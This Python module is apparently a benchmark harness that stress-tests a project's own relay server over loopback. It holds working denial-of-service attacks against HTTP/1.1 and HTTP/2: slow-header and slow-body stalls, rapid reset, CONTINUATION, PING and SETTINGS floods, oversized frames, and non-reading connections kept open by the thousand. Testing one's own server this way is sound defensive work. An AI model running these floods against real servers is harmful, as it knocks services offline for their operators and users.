"""Connections that mean harm, each kind by itself: a process that holds many of them.

    python -m benchmarks.relay.attacks KIND https://127.0.0.1:PORT/#PIN --connections 2000

They come from addresses of the loopback other than 127.0.0.1, which the relay doesn't exempt. One
that the relay ends is made anew. A line a second tells how many stand and how many were ended.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import logging
import os
import socket
import ssl
import struct
import time
from collections.abc import Awaitable, Callable

import uvloop

from exile_tui.wire.address import RelayAddress
from exile_tui.wire.relay import Authorization, GetBlobs, Path, PutBlob, PutBlobs, Receive

ESTABLISHED = b"\x01"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 8, 9
DATA = 0
BLOCK = 16_384
"""Bytes of a flood that are written at once."""
PAUSE = 0.2
"""Seconds before a connection that was ended is made anew."""
BLOB_ID = b"hostile blob 16b"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Make an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(
        ">I", stream
    ) + payload  # fmt: skip


def hello(window: int = 65_535) -> bytes:
    """Make a client's preface; `window` is what each stream may send unread."""
    settings = struct.pack(">HI", 4, window)
    more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
    return PREFACE + frame(SETTINGS, 0, 0, settings) + (more if window > 65_535 else b"")


def fields(method: str, path: str) -> bytes:
    """Make a header block in HPACK, without a table."""
    text = path.encode()
    return bytes((0x83 if method == "POST" else 0x82, 0x87, 0x04, len(text))) + text + b"\1\1x"


def request(stream: int, path: Path, body: bytes, flags: int = 4) -> bytes:
    """Make a whole POST on a stream; HEADERS with END_HEADERS, DATA with END_STREAM."""
    head = frame(HEADERS, flags, stream, fields("POST", path.value))
    parts = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
    for number, part in enumerate(parts, 1):
        head += frame(DATA, number == len(parts), stream, part)
    return head


class Connection:
    """One connection: plain TCP, or TLS with a protocol."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer

    async def write(self, data: bytes) -> None:
        """Write, and wait until it is nearly all gone."""
        self.writer.write(data)
        await self.writer.drain()

    async def ended(self) -> None:
        """Read and throw away until the other end is done."""
        while await self.reader.read(65_536):
            pass

    async def trickle(self, data: bytes, seconds: float = 1.0) -> None:
        """Write a byte, wait, write the next; then wait for the end."""
        reading = asyncio.ensure_future(self.ended())
        for byte in itertools.cycle(data):
            await self.write(bytes((byte,)))
            done, _ = await asyncio.wait((reading,), timeout=seconds)
            if done:
                return

    async def flood(self, make: Callable[[], bytes]) -> None:
        """Write as fast as it is taken; what comes back is thrown away."""
        reading = asyncio.ensure_future(self.ended())
        try:
            while not reading.done():
                await self.write(make())
                await asyncio.sleep(0)
        finally:
            reading.cancel()

    async def deaf(self) -> None:
        """Read nothing any more, until the system says that the other end is done."""
        transport = self.writer.transport
        with contextlib.suppress(RuntimeError):
            transport.pause_reading()  # type: ignore[attr-defined]  # every transport of a socket
        plain = transport.get_extra_info("socket")
        for _ in itertools.count():
            await asyncio.sleep(1)
            if plain.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1) != ESTABLISHED:
                return


Act = Callable[[Connection], Awaitable[None]]


async def silent(one: Connection) -> None:
    await one.ended()


async def half_handshake(one: Connection) -> None:
    await one.write(client_hello())
    await one.ended()


async def slow_handshake(one: Connection) -> None:
    await one.trickle(client_hello())


async def slow_header(one: Connection) -> None:
    await one.write(b"POST /v1/append HTTP/1.1\r\nhost: x\r\nx: ")
    await one.trickle(b"x")


async def slow_body(one: Connection) -> None:
    await one.write(b"POST /v1/append HTTP/1.1\r\nhost: x\r\ncontent-length: 4145\r\n\r\n")
    await one.trickle(b"x")


async def slow_preface(one: Connection) -> None:
    await one.write(PREFACE[:10])
    await one.ended()


async def idle_http2(one: Connection) -> None:
    await one.write(hello() + frame(SETTINGS, 1, 0))
    await one.ended()


async def deaf_http1(one: Connection) -> None:
    await one.write(b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n" * 200)
    await one.deaf()


async def deaf_http2(one: Connection) -> None:
    body = GetBlobs([BLOB_ID] * 16).encode()
    asked = b"".join(request(number, Path.BLOB_GET, body) for number in range(1, 65, 2))
    await one.write(hello(2**31 - 1) + frame(SETTINGS, 1, 0) + asked)
    await one.deaf()


async def idle_streams(one: Connection) -> None:
    body = Receive([(os.urandom(16), os.urandom(32)) for _ in range(4)]).encode()
    await one.write(
        b"POST /v1/receive HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % len(body) + body
    )
    await one.ended()


async def continuation(one: Connection) -> None:
    part = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 200)
    await one.write(hello() + frame(HEADERS, 0, 1, fields("POST", "/v1/append")))
    await one.flood(lambda: part * (BLOCK // len(part)))


async def rapid_reset(one: Connection) -> None:
    await one.write(hello() + frame(SETTINGS, 1, 0))
    numbers = itertools.count(1, 2)

    def some() -> bytes:
        return b"".join(
            frame(HEADERS, 4, number, fields("POST", "/v1/append"))
            + frame(RST, 0, number, struct.pack(">I", 8))
            for number in itertools.islice(numbers, 200)
        )

    await one.flood(some)


async def pings(one: Connection) -> None:
    block = frame(PING, 0, 0, bytes(8)) * (BLOCK // 17)
    await one.write(hello() + frame(SETTINGS, 1, 0))
    await one.flood(lambda: block)


async def settings(one: Connection) -> None:
    block = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * (BLOCK // 15)
    await one.write(hello() + frame(SETTINGS, 1, 0))
    await one.flood(lambda: block)


async def empty_data(one: Connection) -> None:
    start = frame(HEADERS, 4, 1, fields("POST", "/v1/append"))
    block = frame(DATA, 0, 1) * (BLOCK // 9)
    await one.write(hello() + frame(SETTINGS, 1, 0) + start)
    await one.flood(lambda: block)


async def garbage(one: Connection) -> None:
    await one.write(hello() + os.urandom(1024))
    await one.ended()


async def oversized(one: Connection) -> None:
    await one.write(hello() + struct.pack(">I", 0xFFFFFF)[1:] + bytes((DATA, 0, 0, 0, 0, 1)))
    await one.flood(lambda: bytes(BLOCK))


async def long_header(one: Connection) -> None:
    await one.write(b"POST /v1/append HTTP/1.1\r\nhost: x\r\n")
    await one.flood(lambda: b"x: " + b"y" * (BLOCK - 5) + b"\r\n")


async def long_body(one: Connection) -> None:
    await one.write(b"POST /v1/append HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n")
    await one.flood(lambda: b"4000\r\n" + bytes(0x4000) + b"\r\n")


async def requests(one: Connection) -> None:
    body = os.urandom(48)
    block = b"POST /v1/mailbox/delete HTTP/1.1\r\nhost: x\r\ncontent-length: 48\r\n\r\n" + body
    await one.flood(lambda: block * 16)


async def storm(one: Connection) -> None:
    pass  # the handshake was all of it


KINDS: dict[str, tuple[str | None, Act]] = {
    "silent": (None, silent),
    "half-handshake": (None, half_handshake),
    "slow-handshake": (None, slow_handshake),
    "idle": ("http/1.1", silent),
    "slow-preface": ("h2", slow_preface),
    "idle-http2": ("h2", idle_http2),
    "slow-header": ("http/1.1", slow_header),
    "slow-body": ("http/1.1", slow_body),
    "deaf-http1": ("http/1.1", deaf_http1),
    "deaf-http2": ("h2", deaf_http2),
    "idle-streams": ("http/1.1", idle_streams),
    "continuation": ("h2", continuation),
    "rapid-reset": ("h2", rapid_reset),
    "pings": ("h2", pings),
    "settings": ("h2", settings),
    "empty-data": ("h2", empty_data),
    "garbage": ("h2", garbage),
    "oversized": ("h2", oversized),
    "long-header": ("http/1.1", long_header),
    "long-body": ("http/1.1", long_body),
    "requests": ("http/1.1", requests),
    "storm": ("h2", storm),
}
"""Each kind: the protocol that TLS agrees on, None for no TLS, and what a connection does."""


def context(protocol: str) -> ssl.SSLContext:
    """Make TLS 1.3 without any check: whoever means harm does not care whom it meets."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.minimum_version = ssl.TLSVersion.TLSv1_3
    made.set_alpn_protocols([protocol])
    return made


def client_hello() -> bytes:
    """Return the first message of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context("h2").wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return outgoing.read()


def source(number: int, addresses: int) -> str:
    """Return an address of the loopback, 127.1.x.y, by its number."""
    at = number % addresses
    return f"127.1.{at // 250}.{1 + at % 250}"


class Horde:
    """Holds many connections of one kind."""

    def __init__(self, kind: str, address: RelayAddress, addresses: int) -> None:
        self.protocol, self.act = KINDS[kind]
        self.deaf = kind.startswith("deaf")
        self.tls = None if self.protocol is None else context(self.protocol)
        self.address = address
        self.addresses = addresses
        self.standing = 0
        self.made = 0
        self.failed = 0
        self._connecting = asyncio.Semaphore(200)

    async def hold(self, number: int) -> None:
        """Keep one connection, made anew whenever it ends."""
        while True:
            writer = None
            try:
                async with self._connecting:
                    reader, writer = await self._connect(number)
                self.made += 1
                self.standing += 1
                try:
                    await self.act(Connection(reader, writer))
                finally:
                    self.standing -= 1
            except (OSError, EOFError):
                self.failed += 1
            finally:
                if writer is not None:
                    writer.transport.abort()
            await asyncio.sleep(PAUSE)

    async def _connect(self, number: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        plain = socket.socket()
        plain.setblocking(False)
        if self.deaf:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            plain.bind((source(number, self.addresses), 0))
            async with asyncio.timeout(20):
                await asyncio.get_running_loop().sock_connect(
                    plain, (self.address.host, self.address.port)
                )
                return await asyncio.open_connection(
                    sock=plain, ssl=self.tls, server_hostname="" if self.tls else None
                )
        except BaseException:
            plain.close()
            raise


async def run(kind: str, address: RelayAddress, connections: int, addresses: int) -> None:
    """Hold connections until ended; print how many stand."""
    horde = Horde(kind, address, addresses)
    if kind == "deaf-http2":
        await leave_blob(address)
    tasks = [asyncio.create_task(horde.hold(number)) for number in range(connections)]
    while True:
        await asyncio.sleep(1)
        print(horde.standing, horde.made, horde.failed, flush=True)
        for task in tasks:
            if task.done():
                task.result()


async def leave_blob(address: RelayAddress) -> None:
    """Store the blob that is asked for."""
    blob = PutBlob(BLOB_ID, bytes(32), int(time.time()) + 86_400, bytes(65_536))
    body = PutBlobs(Authorization(), [blob]).encode()
    reader, writer = await asyncio.open_connection(
        address.host, address.port, ssl=context("http/1.1"), server_hostname=""
    )
    head = f"POST {Path.BLOB_PUT.value} HTTP/1.1\r\nhost: x\r\ncontent-length: {len(body)}\r\n\r\n"
    writer.write(head.encode() + body)
    assert b" 200 " in await reader.readline()
    writer.close()


def main() -> None:
    """Run from the command line."""
    os.nice(10)  # who attacks does so from elsewhere, and takes no processor from the relay
    logging.disable()  # asyncio tells of every write to a connection that was ended
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=list(KINDS))
    parser.add_argument("address")
    parser.add_argument("--connections", type=int, default=2000)
    parser.add_argument("--addresses", type=int, default=100)
    options = parser.parse_args()
    attack = run(
        options.kind,
        RelayAddress.parse(options.address),
        options.connections,
        options.addresses,
    )
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(attack)


if __name__ == "__main__":
    main()
